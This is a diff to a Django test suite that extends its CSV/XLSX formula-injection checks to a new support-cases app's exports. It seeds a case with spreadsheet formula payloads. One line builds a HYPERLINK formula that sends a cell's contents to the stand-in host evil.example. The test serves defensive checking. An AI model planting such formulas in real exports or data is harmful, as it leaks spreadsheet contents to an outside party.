@@ -54,7 +54,7 @@ from tests.factories import (
 pytestmark = pytest.mark.django_db
 
 ROOT = Path(settings.BASE_DIR)
-APPS = ("assessments", "config", "dealers", "goals", "incentives", "surveys")
+APPS = ("assessments", "config", "dealers", "goals", "incentives", "support", "surveys")
 #: One payload per character a spreadsheet starts a formula with.
 PAYLOADS = [f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open me")' for start in FORMULA_STARTS]
 PAYLOAD = PAYLOADS[0]
@@ -171,7 +171,29 @@ def world(cast, dealer, other_dealer, far_dealer) -> dict[str, Any]:
         ),
         actor=cast["hq_admin"],
     )
+    _support_case(dealer)
     return {**cast, "dealer": dealer}
+
+
+def _support_case(dealer: Dealer) -> None:
+    """A technical case this month with the dealer's words and an expert's name as payloads."""
+    from dealers.choices import Role
+    from support.models import SupportCase
+
+    expert = User.objects.create(username="expert-safe-files", role=Role.TECH_EXPERT, first_name=PAYLOADS[1])
+    now = timezone.now()
+    SupportCase.objects.create(
+        dealer=dealer,
+        vin="LSVAB4BM0NN000001",
+        fault_code=PAYLOADS[2][:20],
+        symptom=PAYLOADS[0],
+        solution=PAYLOADS[3],
+        expert=expert,
+        opened_at=now - timedelta(hours=3),
+        first_response_at=now - timedelta(hours=2),
+        resolved_at=now - timedelta(hours=1),
+        status="resolved",
+    )
 
 
 # --- the portal's own exports -----------------------------------------------------------------------
@@ -234,6 +256,18 @@ PAGE_EXPORTS: dict[str, tuple[str, Callable[[], str], str]] = {
         "hq_admin",
     ),
     "goals csv": ("csv", lambda: reverse("goals:list_export", args=["csv"]), "hq_admin"),
+    "support cases csv": (
+        "csv",
+        lambda: reverse("support:export", args=["csv"]) + "?status=all",
+        "hq_manager",
+    ),
+    "support cases xlsx": (
+        "xlsx",
+        lambda: reverse("support:export", args=["xlsx"]) + "?status=all",
+        "hq_manager",
+    ),
+    "support report csv": ("csv", lambda: reverse("support:report_export", args=["csv"]), "hq_manager"),
+    "support report xlsx": ("xlsx", lambda: reverse("support:report_export", args=["xlsx"]), "hq_manager"),
     "ranking all KPIs xlsx": (
         "xlsx",
         lambda: reverse("assessments:ranking_kpis_export", args=["xlsx"]) + "?period=2026-10",
@@ -436,6 +470,8 @@ WALKED = {
     "assessments.views_network.network_export": "network regions csv/xlsx",
     "assessments.views_network.network_drill_export": "network drill csv/xlsx",
     "goals.views.goal_list_export": "goals csv/xlsx",
+    "support.views.case_list_export": "support cases csv/xlsx",
+    "support.views.report_export": "support report csv/xlsx",
     # Months, figures and status labels from the code: no typed text reaches it.
     "goals.views.goal_export": "a goal's months csv/xlsx (no user text)",
     "assessments.views_imports.import_errors_csv": "error file test",
